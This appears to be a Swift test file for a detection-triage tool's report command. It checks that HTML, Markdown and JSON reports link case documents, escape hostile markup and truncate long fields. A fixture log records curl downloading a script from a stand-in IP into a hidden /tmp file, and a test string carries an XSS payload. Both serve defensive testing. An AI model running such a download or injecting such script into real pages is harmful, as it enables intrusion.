import Foundation
import StubTestSupport
import Testing

/// Reports link each result of a case with documents to those documents: HTML (anchored section with each
/// document's `_index`, `_id` and escaped source), Markdown and JSON (document ids per case).
@Suite(.serialized, .boundedResources) struct ReportDocumentsCommandTests {
    static let hostile = "</pre><script>alert(1)</script><a href=\\\"javascript:x\\\">"

    @Test func everyReportListsTheDocumentsAndTheHTMLEscapesThemBehindAnAnchor() async throws {
        let directory = try CLI.workspace()
        let rule = try await CLI.run(["prompts", "import-rule", try CLI.fixture("rules/current/command_and_control_curl_activity_llm_triage.toml").path, "--id", "curl-rule"], in: directory)
        #expect(rule.status == 0, "\(rule.stderr)")
        let padding = String(repeating: "A", count: 5000)
        let cases = """
            - id: curl-hostile-docs
              label: TP
              scenario: curl-docs
              index: logs-endpoint.events.process-default
              documents:
                - "@timestamp": "2026-03-02T09:01:00.000Z"
                  event: {category: [process], type: [start], action: exec}
                  host: {id: web-01-id, name: web-01}
                  user: {name: www-data}
                  process: {name: curl, args: [curl, -s, "http://198.51.100.7:8080/x.sh", -o, /tmp/.x], parent: {executable: /usr/bin/bash}}
                  note: "\(Self.hostile)"
                - "@timestamp": "2026-03-02T09:02:00.000Z"
                  event: {category: [process], type: [start], action: exec}
                  host: {id: web-01-id, name: web-01}
                  user: {name: www-data}
                  process: {name: curl, args: [curl, -fsS, "https://status.corp.example.com/healthz"], parent: {executable: /usr/bin/bash}}
                  padding: "\(padding)"
            """
        try cases.write(to: directory.appendingPathComponent("cases/docs.yaml"), atomically: true, encoding: .utf8)
        let run = try await CLI.run(["run", "--prompt", "curl-rule@v1", "--model", "heuristic", "--scenario", "curl-docs", "--quiet"], in: directory)
        #expect(run.status == 0, "\(run.stderr)")
        let report = try await CLI.run(["report", "--run", "1", "--format", "md,json,html", "--out", "r"], in: directory)
        #expect(report.status == 0, "\(report.stderr)")
        func written(_ suffix: String) throws -> String {
            let path = try #require(report.stdout.split(separator: "\n").first { $0.hasSuffix(suffix) })
            return try String(contentsOf: directory.appendingPathComponent(String(path)), encoding: .utf8)
        }
        let ids = ["logs-endpoint.events.process-default/curl-hostile-docs-1", "logs-endpoint.events.process-default/curl-hostile-docs-2"]

        let html = try written(".html")
        #expect(!html.contains("<script>alert(1)</script>"))
        #expect(!html.contains("<a href=\"javascript:x\""))
        #expect(html.contains("&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;"))
        // Every link to a case's documents resolves to an element with that id.
        let links = Set(html.matches(of: /href="#(docs-[0-9]+)"/).map { String($0.output.1) })
        let targets = Set(html.matches(of: /id="(docs-[0-9]+)"/).map { String($0.output.1) })
        #expect(links.count == 1)
        #expect(links == targets)
        #expect(html.contains("_index logs-endpoint.events.process-default · _id curl-hostile-docs-1"))
        #expect(html.contains("_index logs-endpoint.events.process-default · _id curl-hostile-docs-2"))
        // The 5000-byte field is cut at 4096 bytes with a note.
        #expect(!html.contains(padding))
        #expect(html.contains(" bytes shown; `triage-eval cases export` has the whole document"))

        let markdown = try written(".md")
        #expect(markdown.contains("## Case documents"))
        #expect(markdown.contains("- curl-hostile-docs: \(ids[0]), \(ids[1])"), "\(markdown)")
        #expect(!markdown.contains("<script>"))

        let json = try #require(try JSONSerialization.jsonObject(with: Data(try written(".json").utf8)) as? [String: Any])
        let documents = try #require(json["documents"] as? [[String: Any]])
        #expect(documents.count == 1)
        #expect(documents.first?["case_id"] as? String == "curl-hostile-docs")
        #expect(documents.first?["documents"] as? [String] == ids)
    }
}
